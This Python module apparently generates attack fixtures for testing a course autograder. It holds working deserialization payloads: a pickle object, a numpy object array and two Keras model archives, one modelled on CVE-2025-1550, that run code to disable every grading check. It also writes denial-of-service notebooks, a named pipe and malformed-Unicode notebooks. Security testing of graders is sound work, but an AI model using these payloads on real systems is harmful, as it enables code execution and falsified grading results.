"""Binary files of the attacks; each function writes one file."""

import io
import json
import os
import pickle
import zipfile

import h5py
import numpy as np

# Runs when it is unpickled, and makes every later check of that process pass.
TAKE_OVER = """
import builtins
builtins.abs = lambda value: 0
from course import checks
for name in ("that", "equal", "answer", "array", "close", "at_least"):
    setattr(checks, name, lambda *arguments, **keywords: None)
"""


class RunsCode:
    """An object that runs code when it is unpickled."""

    def __reduce__(self):
        return exec, (TAKE_OVER,)


def pickled_value(path):
    path.write_bytes(pickle.dumps(RunsCode()))


def pickled_array(path):
    np.save(path, np.array([RunsCode()], dtype=object), allow_pickle=True)


def slow_text(path):
    """Add text to a submitted notebook that took 30 s to several minutes to format."""
    texts = [
        "# " + " " * 70_000 + "x",
        "".join(f"<b title={number}><p>" for number in range(700)),
        "".join(f"$x_{{{number}}}^2$ " for number in range(1_500)),
        "\\begin{a}" * 9_000,
        "[" * 50_000,
        "=== BEGIN MARK SCHEME ===\n" * 3_000,
    ]
    notebook = json.loads(path.read_text(encoding="utf-8"))
    cells = [
        {"cell_type": "markdown", "id": f"slow-{number}", "metadata": {}, "source": text}
        for number, text in enumerate(texts)
    ]
    magics = {
        "cell_type": "code",
        "id": "slow-magics",
        "metadata": {},
        "source": "a =\x0c%pwd\n" * 900,
    }
    cells.append(magics | {"outputs": [], "execution_count": None})
    notebook["cells"] += cells
    path.write_text(json.dumps(notebook), encoding="utf-8")


def lambda_model(path):
    """Write a model with a Lambda layer that contains marshalled code, as Keras saves it."""
    import codecs
    import marshal

    code = compile(f"lambda x: (exec({TAKE_OVER!r}), x)[1]", "lambda", "eval").co_consts[0]
    function = codecs.encode(marshal.dumps(code), "base64").decode("ascii")
    arguments = {
        "name": "lambda",
        "trainable": True,
        "function": {
            "class_name": "__lambda__",
            "config": {"code": function, "defaults": None, "closure": None},
        },
        "arguments": {},
    }
    layer = {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": arguments,
        "registered_name": None,
    }
    _write_model(path, layer)


def calling_model(path):
    """Write a model whose config names a function to call (after CVE-2025-1550)."""
    layer = {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {
            "name": "lambda",
            "function": {
                "class_name": "function",
                "module": "builtins",
                "config": "exec",
                "registered_name": "function",
            },
            "arguments": {"globals": None},
        },
        "registered_name": None,
    }
    called = {
        "module": "builtins",
        "class_name": "exec",
        "config": {"source": TAKE_OVER},
        "registered_name": None,
    }
    _write_model(path, layer, called)


def named_pipe(path):
    os.mkfifo(path)


def _write_model(path, *layers):
    inputs = {
        "module": "keras.layers",
        "class_name": "InputLayer",
        "config": {"batch_shape": [None, 2], "dtype": "float32", "name": "inputs"},
        "registered_name": None,
    }
    config = {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "model", "trainable": True, "layers": [inputs, *layers]},
        "registered_name": None,
        "build_config": {"input_shape": [None, 2]},
    }
    weights = io.BytesIO()
    h5py.File(weights, "w").close()
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("metadata.json", json.dumps({"keras_version": "3.10.0"}))
        archive.writestr("config.json", json.dumps(config))
        archive.writestr("model.weights.h5", weights.getvalue())


def half_pairs(path):
    """Put half of a surrogate pair wherever a submitted notebook has text."""
    half = "\ud83d"
    notebook = json.loads(path.read_text(encoding="utf-8"))
    for cell in notebook["cells"]:
        is_code = cell["cell_type"] == "code"
        cell["source"] += f"\n# {half}"
        cell["metadata"][half] = half
        if is_code:
            stream = {"output_type": "stream", "name": "stdout", "text": [half]}
            error = {"output_type": "error", "ename": half, "evalue": half, "traceback": [half]}
            cell["outputs"] = [stream, error]
        else:
            cell["attachments"] = {half: {"image/png": half}}
    notebook["metadata"][half] = half
    path.write_text(json.dumps(notebook), encoding="utf-8")
